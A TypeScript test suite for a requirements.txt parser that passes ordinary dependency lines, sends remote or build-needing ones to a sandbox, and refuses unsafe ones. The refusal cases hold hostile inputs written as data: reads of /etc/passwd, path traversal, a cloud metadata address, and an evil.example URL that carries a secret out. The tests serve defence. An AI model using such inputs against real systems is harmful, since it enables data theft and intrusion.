import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readRequirements } from './requirements.ts';

const sha = 'a'.repeat(64);
const read = (text: string) =>
  readRequirements({
    text,
    fileName: 'requirements.txt',
    wheels: [{ path: './wheels/tool-1.0-py3-none-any.whl', sha256: sha }],
    wheelFolder: '/store',
  });

const linesOf = (text: string) => {
  const result = read(text);
  assert.equal(result.kind, 'plain', JSON.stringify(result));
  return result.kind === 'plain' ? result.lines : [];
};

test('names, extras, versions and markers pass as they are', () => {
  const lines = [
    'h2o-wave',
    'h2o_wave==1.8.16',
    'uvicorn[standard] >=0.20,<1',
    'pandas (>=1.0)',
    "tomli ; python_version < '3.11'",
    'numpy~=1.26.0',
    'x===1.0+local',
    'torch==2.0.*',
    'Pillow!=9.0',
  ];
  assert.deepEqual(linesOf(lines.join('\n')), lines);
});

test('comments, blank lines, continued lines, byte order mark and Windows line ends are understood', () => {
  const text = '\uFEFF# top\r\n\r\nh2o-wave\\\r\n==1.8.16 # why\r\nhttpx\t# last\r\n';
  assert.deepEqual(linesOf(text), ['h2o-wave ==1.8.16', 'httpx']);
});

test('hashes are kept apart, to be demanded of the lock', () => {
  const result = read(`Some_Tool==1 --hash=sha256:${sha} \\\n  --hash=sha256:${'b'.repeat(64)}`);
  assert.equal(result.kind, 'plain');
  if (result.kind !== 'plain') return;
  assert.deepEqual(result.lines, ['Some_Tool==1']);
  assert.deepEqual(
    [...(result.hashes.get('some-tool') ?? [])],
    [`sha256:${sha}`, `sha256:${'b'.repeat(64)}`],
  );
});

test('a wheel of the bundle becomes the uploaded file, however its path is written', () => {
  const expected = [`tool @ file:///store/${sha}/tool-1.0-py3-none-any.whl`];
  for (const line of [
    'wheels/tool-1.0-py3-none-any.whl',
    './wheels/tool-1.0-py3-none-any.whl',
    'file:wheels/tool-1.0-py3-none-any.whl',
    'file:./wheels/tool-1.0-py3-none-any.whl',
    'tool @ file:./wheels/tool-1.0-py3-none-any.whl',
    'tool@./wheels/x/../tool-1.0-py3-none-any.whl',
  ])
    assert.deepEqual(linesOf(line), expected, line);
  assert.deepEqual(linesOf('./wheels/tool-1.0-py3-none-any.whl[extra] ; python_version > "3"'), [
    `tool[extra] @ file:///store/${sha}/tool-1.0-py3-none-any.whl ; python_version > "3"`,
  ]);
});

test('what needs code to run or another place than the index is left to the sandbox of the app', () => {
  for (const line of [
    'git+https://example.com/x.git',
    'tool @ git+ssh://git@example.com/x.git@main',
    'https://example.com/tool-1.0-py3-none-any.whl',
    'tool @ http://169.254.169.254/tool-1.0-py3-none-any.whl',
    '-e .',
    '-e ./src',
    '--editable=git+https://example.com/x.git#egg=x',
    './vendor/tool-1.0.tar.gz',
    './vendor/tool',
    '-r more.txt',
    '-cmore.txt',
    '--no-binary :all:',
    '--extra-index-url https://example.com/simple',
    '--index-url=https://user:word@example.com/simple',
    '-f https://example.com/wheels',
    '--find-links ./wheels',
  ]) {
    const result = read(`h2o-wave\n${line}\n`);
    assert.equal(result.kind, 'needs-build', `${line}: ${JSON.stringify(result)}`);
    assert.doesNotMatch(JSON.stringify(result), /user:word/);
  }
});

test('options that only repeat what the platform does anyway are ignored and said so', () => {
  const result = read(
    '--index-url https://pypi.org/simple\n--trusted-host pypi.org\n--only-binary=:all:\n--pre\nh2o-wave\n',
  );
  assert.equal(result.kind, 'plain');
  if (result.kind !== 'plain') return;
  assert.deepEqual(result.lines, ['h2o-wave']);
  assert.equal(result.preReleases, true);
  assert.equal(result.notes.length, 3);
  assert.match(result.notes[0] ?? '', /line 1: --index-url is ignored/);
});

test('what leaves the bundle, hides an option or is not understood is refused with its line', () => {
  for (const line of [
    '-r /etc/passwd',
    '-r ../other/requirements.txt',
    '-c file:///etc/passwd',
    '-e ../..',
    '--find-links /tmp',
    'file:///etc/tool-1.0-py3-none-any.whl',
    '/etc/tool-1.0-py3-none-any.whl',
    '../tool-1.0-py3-none-any.whl',
    'wheels/../../tool-1.0-py3-none-any.whl',
    'tool @ file:///store/x/tool-1.0-py3-none-any.whl',
    './wheels/other-1.0-py3-none-any.whl',
    './wheels/-x.whl',
    '.\\wheels\\tool-1.0-py3-none-any.whl',
    'tool @ ftp://example.com/x',
    'tool==1 --config-settings=x=y',
    'tool==1 --global-option="--x"',
    'tool==1 --hash=md5:abc',
    'tool --index-url https://evil.example/simple',
    `tool @ https://evil.example/$\{HAIC_SECRET}/tool.whl`,
    '--python /bin/sh',
    '--cache-dir=/tmp/x',
    '--output-file x',
    '-o x',
    '\u202Etool',
    'tool\u0000',
    '== 1.0',
    'tool 1.0',
    '',
  ].filter((line) => line !== '')) {
    const result = read(`h2o-wave\n${line}\n`);
    assert.equal(result.kind, 'refused', `${line}: ${JSON.stringify(result)}`);
    assert.match(result.kind === 'refused' ? result.message : '', /line 2/, line);
  }
  assert.equal(read('x'.repeat(2_000_000)).kind, 'refused');
  assert.equal(read('a\n'.repeat(20_000)).kind, 'refused');
});

test('a wheel whose line demands another hash than its content has is refused', () => {
  assert.equal(read(`./wheels/tool-1.0-py3-none-any.whl --hash=sha256:${'b'.repeat(64)}`).kind, 'refused');
  assert.equal(read(`./wheels/tool-1.0-py3-none-any.whl --hash=sha256:${sha}`).kind, 'plain');
});

test('nonsense is always answered, quickly, and no line of uv begins with an option', () => {
  const pieces = [
    '-',
    '--',
    'a',
    '.',
    '/',
    '@',
    ' ',
    '[',
    ']',
    ';',
    '#',
    '=',
    '<',
    '\\',
    '\n',
    '\t',
    '$',
    '{',
    'file:',
    '.whl',
    '\u00e9',
  ];
  let seed = 42;
  const next = () => {
    seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
    return seed;
  };
  for (let round = 0; round < 5_000; round += 1) {
    const text = Array.from({ length: next() % 40 }, () => pieces[next() % pieces.length]).join('');
    const result = read(text);
    if (result.kind === 'plain')
      for (const line of result.lines) assert.match(line, /^[A-Za-z0-9][^\n\r]*$/, JSON.stringify(text));
  }
  // Lines made to be slow for a matcher.
  for (const line of [
    'a'.repeat(16_000),
    `a${'.-'.repeat(8_000)}`,
    `a${' '.repeat(16_000)}!`,
    `a[${','.repeat(16_000)}`,
  ])
    read(line);
});
